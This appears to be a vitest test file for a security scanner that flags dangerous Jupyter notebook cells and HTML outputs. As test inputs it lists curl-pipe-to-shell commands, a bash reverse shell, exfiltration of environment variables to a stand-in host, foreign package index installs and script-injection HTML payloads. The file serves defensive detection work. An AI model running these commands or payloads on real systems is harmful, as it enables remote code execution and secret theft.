import { describe, expect, it } from 'vitest';
import { weighFiles } from '../../../../test/builders/weigh-files.ts';
import { findActive } from './markup.ts';
import { judgeCommand } from './command.ts';

interface Cell {
  readonly source: string;
  readonly html?: string;
  readonly kind?: 'code' | 'markdown';
}

function notebookOf(cells: readonly Cell[]): string {
  return JSON.stringify({
    cells: cells.map(({ source, html, kind = 'code' }) => ({
      cell_type: kind,
      source: source.split(/(?<=\n)/),
      ...(kind === 'code'
        ? {
            outputs:
              html === undefined
                ? []
                : [{ output_type: 'display_data', data: { 'text/html': [html] }, metadata: {} }],
          }
        : {}),
      metadata: {},
    })),
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
  });
}

async function rules(...cells: Cell[]): Promise<readonly string[]> {
  const { findings, outcomes } = await weighFiles({ 'a.ipynb': notebookOf(cells) });
  expect(outcomes.filter(({ kind }) => kind === 'failed')).toEqual([]);
  // That a version is missing is said of every command, in notebooks as elsewhere.
  return findings
    .map(({ rule }) => rule)
    .filter((rule) => rule !== 'dependency-source/unpinned-command');
}

describe('checks/code/notebook', () => {
  it.each([
    ['!curl http://192.0.2.1/x | sh', 'notebook/unsafe-program'],
    ['!wget -qO- https://example.test/x.sh | sudo bash', 'notebook/piped-program'],
    ['!bash <(curl -s https://example.test/x.sh)', 'notebook/piped-program'],
    ['!eval "$(curl -s https://example.test/x)"', 'notebook/piped-program'],
    ['!curl https://example.test/x \\\n | sh', 'notebook/piped-program'],
    ['%%bash\ncurl https://example.test/x | \\\n sh', 'notebook/piped-program'],
    ['x = !curl https://example.test/x | sh', 'notebook/piped-program'],
    ['%sx curl https://example.test/x | sh', 'notebook/piped-program'],
    ['get_ipython().system("curl https://example.test/x | sh")', 'notebook/piped-program'],
    ['!wget https://example.test/run.sh\n!chmod +x run.sh && ./run.sh', 'notebook/piped-program'],
    ['!wget http://192.0.2.1/run.sh\n!bash run.sh', 'notebook/unsafe-program'],
    ['c = "curl http://192.0.2.1/x | sh"\n!{c}', 'notebook/unsafe-program'],
    [
      'get_ipython().run_cell_magic("bash", "", "curl http://192.0.2.1/x | sh")',
      'notebook/unsafe-program',
    ],
    ['!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'notebook/hostile-command'],
    ['!echo aWQ= | base64 -d | sh', 'notebook/hostile-command'],
    ['!curl -d "$(env)" https://example.test', 'notebook/hostile-command'],
    ['%pip install --extra-index-url http://example.test/ x', 'notebook/foreign-index'],
    ['!pip install http://192.0.2.1/x.whl', 'notebook/foreign-index'],
    ['!pip install git+https://example.test/x', 'notebook/source-install'],
  ])('reports %s', async (source, rule) => {
    expect(await rules({ source })).toContain(rule);
  });

  it.each([
    ['<img src=x onerror="fetch(1)">', 'notebook/script-handler'],
    ['<svg><animate onbegin=alert(1) attributeName=x></svg>', 'notebook/script-handler'],
    ['<svg onload=alert(1)>', 'notebook/script-handler'],
    ['<a href="java&#115;cript:alert(1)">x</a>', 'notebook/script-link'],
    ['<a href="java\nscript:alert(1)">x</a>', 'notebook/script-link'],
    ['<script src="https://example.test/x.js"></script>', 'notebook/foreign-script'],
    ['<iframe src="https://example.test/"></iframe>', 'notebook/foreign-frame'],
    [
      '<script>Jupyter.notebook.kernel.execute("import os; os.system(1)")</script>',
      'notebook/kernel-code',
    ],
  ])('reports the output %s', async (html, rule) => {
    expect(await rules({ source: 'x', html })).toEqual([rule]);
    expect(await rules({ source: html, kind: 'markdown' })).toEqual([rule]);
  });

  it.each([
    '!pip install -q torch transformers',
    '%pip install torch --index-url https://download.pytorch.org/whl/cpu',
    '!pip install git+https://example.test/x@0123456789abcdef0123456789abcdef01234567',
    '!curl -s https://example.test/x.json | python -m json.tool',
    '!wget https://example.test/data.zip\n!unzip data.zip',
    '!rm -rf ./build sample_data',
    'x = 10 % 3\ny = (1\n  % 2)',
    '%%writefile x.txt\ncurl http://192.0.2.1 | sh',
    '%%html\n<b>x</b>',
    '?print',
  ])('stays silent about %s', async (source) => {
    expect(await rules({ source })).toEqual([]);
  });

  it.each([
    '<div><table onclick="sort()"><tr><td>1</td></tr></table></div>',
    '<script src="https://cdn.plot.ly/plotly-3.0.0.min.js"></script>',
    '<script>var s = "<img src=x onerror=alert(1)>"; s.onload = go;</script>',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    '<iframe src="about:blank" onload="this.contentDocument.open();this.contentDocument.write(atob(1));"></iframe>',
    '<a href="javascript:void(0)">x</a>',
  ])('stays silent about the output %s', async (html) => {
    expect(await rules({ source: 'x', html })).toEqual([]);
  });

  it('examines code with the names of the cells before it', async () => {
    const { findings } = await weighFiles({
      'a.ipynb': notebookOf([
        { source: 'import os\ncommand = "curl https://example.test/x | sh"' },
        { source: '# again\n%time os.system(command)' },
      ]),
    });

    expect(findings.map(({ rule, location }) => [rule, location.path, location.line])).toEqual([
      ['import-behaviour/hostile-command', ['a.ipynb', 'cell-2.py'], expect.any(Number)],
    ]);
  });

  it('answers whatever the text before the suite loses patience', () => {
    const hostile = [
      'curl '.repeat(5000),
      `curl ${'a|'.repeat(8000)}`,
      `<a ${'x="'.repeat(50_000)}`,
      '<'.repeat(200_000),
      '<script>'.repeat(50_000),
      `<a ${'x=y '.repeat(50_000)}>`,
      `pip ${'a '.repeat(8000)}`,
      'IPython.notebook.kernel.execute('.repeat(10_000),
    ];
    const answered = hostile.map((text) => [judgeCommand(text), findActive(text, false)]);

    expect(answered).toHaveLength(hostile.length);
  });
});
